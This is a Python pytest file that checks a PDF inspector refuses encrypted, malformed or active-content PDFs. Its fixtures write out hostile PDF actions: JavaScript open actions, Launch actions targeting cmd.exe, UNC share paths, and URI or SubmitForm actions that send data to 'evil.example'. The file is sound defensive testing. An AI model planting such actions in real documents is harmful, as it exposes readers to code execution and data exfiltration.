"""I3: the Surat Kuasa must be a real, plain PDF -- not encrypted, no JavaScript or actions, no
embedded files; anything else is refused, never an error."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from gerbang_sidecar.adapters.documents.pdf import PypdfInspector
from gerbang_sidecar.ports.documents import PlainPdf, RefusedDocument


def _pdf(change=None) -> bytes:  # type: ignore[no-untyped-def]
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_i3_a_plain_pdf_passes() -> None:
    assert PypdfInspector().inspect(_pdf()) == PlainPdf(pages=1)


@pytest.mark.parametrize(("change", "reason"), [
    (lambda w: w.encrypt("rahasia"), "encrypted"),
    (lambda w: w.add_open_action(JavaScript("app.alert(1);")), "active_content"),
    (lambda w: w.add_attachment("x.exe", b"MZ"), "embedded_files"),
])
def test_i3_risky_pdfs_are_refused(change, reason: str) -> None:  # type: ignore[no-untyped-def]
    assert PypdfInspector().inspect(_pdf(change)) == RefusedDocument(reason)  # type: ignore[arg-type]


@pytest.mark.parametrize("content", [
    b"\x89PNG\r\n\x1a\n" + b"0" * 100,          # an image renamed .pdf
    b"%PDF-1.7\n" + b"garbage" * 50,            # a PDF header and nothing readable
    b"",
])
def test_i3_what_is_not_a_pdf_is_refused(content: bytes) -> None:
    assert PypdfInspector().inspect(content) == RefusedDocument("not_pdf")


def test_i3_a_truncated_pdf_is_refused() -> None:
    whole = _pdf()
    assert PypdfInspector().inspect(whole[: len(whole) // 2]) == RefusedDocument("not_pdf")


def _open_action(kind: str, **entries: object):  # type: ignore[no-untyped-def]
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
        writer._root_object[NameObject("/OpenAction")] = action
    return change


def _on_link(kind: str, **entries: object):  # type: ignore[no-untyped-def]
    """A link annotation on page 1 whose action is ``kind`` (followed when clicked)."""
    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id"))
        annotation = writer.pages[0]["/Annots"][0].get_object()
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in entries.items():
            action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
        annotation[NameObject("/A")] = action
    return change


def _xfa(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
        NameObject("/Fields"): ArrayObject(),
        NameObject("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")})


def _on_link_with_indirect_type(kind: str):  # type: ignore[no-untyped-def]
    """The action type stored as its own object (``/S 12 0 R``), as a viewer follows it."""
    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id"))
        annotation = writer.pages[0]["/Annots"][0].get_object()
        annotation[NameObject("/A")] = DictionaryObject({
            NameObject("/S"): writer._add_object(NameObject(kind)),
            NameObject("/F"): TextStringObject("cmd.exe")})
    return change


@pytest.mark.parametrize("change", [
    _on_link_with_indirect_type("/Launch"),
    _on_link("/URI", URI=TextStringObject("file:///C:/Windows/System32/cmd.exe")),
    _on_link("/URI", URI=TextStringObject("\\\\evil\\share\\x")),
    _open_action("/URI", URI=TextStringObject("https://evil.example/leak")),
    _open_action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
    _open_action("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")),
    _on_link("/GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf")),
    _on_link("/Launch", F=TextStringObject("cmd.exe")),
    _on_link("/ImportData", F=TextStringObject("data.fdf")),
    _xfa,
], ids=["indirect-launch", "link-file-uri", "link-unc-uri", "open-uri", "open-submit",
        "open-unc-file", "link-unc-file", "link-launch", "link-import", "xfa"])
def test_i3_actions_that_send_data_or_open_other_files_are_refused(change) -> None:  # type: ignore[no-untyped-def]
    assert PypdfInspector().inspect(_pdf(change)) == RefusedDocument("active_content")


def _open_at_page_one(writer: PdfWriter) -> None:
    writer.open_destination = writer.pages[0]


@pytest.mark.parametrize("change", [
    lambda w: w.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://example.go.id")),
    lambda w: w.add_annotation(0, Link(rect=(50, 50, 200, 80),
                                       url="mailto:sekretariat@example.go.id")),
    _open_at_page_one,
    _open_action("/GoTo", D=TextStringObject("halaman-1")),
], ids=["web-link", "mail-link", "open-at-page", "open-goto-action"])
def test_i3_a_letterhead_link_or_opening_at_a_page_is_plain(change) -> None:  # type: ignore[no-untyped-def]
    assert PypdfInspector().inspect(_pdf(change)) == PlainPdf(pages=1)
